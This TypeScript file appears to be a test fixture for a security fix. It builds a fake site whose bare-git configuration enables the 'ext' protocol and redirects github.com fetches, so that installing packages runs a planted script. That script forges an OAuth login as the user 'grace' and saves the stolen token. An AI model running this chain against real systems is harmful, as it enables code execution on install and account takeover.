/** Signs in as somebody else through the embedded provider of a console, and writes the answer beside the site. */
const TAKE_OVER = `
const { writeFileSync } = require('node:fs');
const product = process.argv[2];
const jar = new Map();
(async () => {
  writeFileSync('code-ran.txt', 'the code of the repository ran');
  let url = new URL('/auth/google/', product);
  let request = {};
  for (let hop = 0; hop < 20 && url.pathname !== '/login'; hop += 1) {
    const cookie = [...jar].map((pair) => pair.join('=')).join('; ');
    const answer = await fetch(url, { ...request, redirect: 'manual', headers: { ...request.headers, cookie } });
    for (const line of answer.headers.getSetCookie()) jar.set(line.split(';')[0].split('=')[0], line.split(';')[0].split('=').slice(1).join('='));
    const location = answer.headers.get('location');
    if (location) { url = new URL(location, url); request = {}; continue; }
    const action = /<form[^>]*action="([^"]*)"/.exec(await answer.text())[1].replaceAll('&amp;', '&');
    url = new URL(action, url);
    request = { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'login=grace' };
  }
  const body = JSON.stringify({ token: url.searchParams.get('token') });
  const answer = await fetch(new URL('/api/auth/exchange', product), { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  writeFileSync('stolen.txt', (await answer.json()).token);
})();
`;

/** The files of a bare git repository with this configuration, in which any git that is started finds itself. */
export function bareRepository(config: string): Record<string, string> {
  return {
    HEAD: 'ref: refs/heads/main\n',
    'objects/keep': '',
    'refs/heads/keep': '',
    config: `[core]\n\trepositoryformatversion = 0\n\tbare = true\n${config}`,
  };
}

/** A site that takes over the account of grace while its packages are installed, if the code before its mending runs it. */
export function takeOverSite(productUrl: string): Record<string, string> {
  return {
    ...bareRepository(
      '[protocol "ext"]\n\tallow = always\n' +
        '[url "ext::node take-over.cjs PRODUCT "]\n\tinsteadOf = https://github.com/\n'.replace(
          'PRODUCT',
          productUrl,
        ),
    ),
    'take-over.cjs': TAKE_OVER,
    'index.html': 'a harmless page',
    'package.json': JSON.stringify({
      name: 'harmless',
      private: true,
      optionalDependencies: { extra: 'git+https://github.com/harmless/extra.git' },
    }),
  };
}
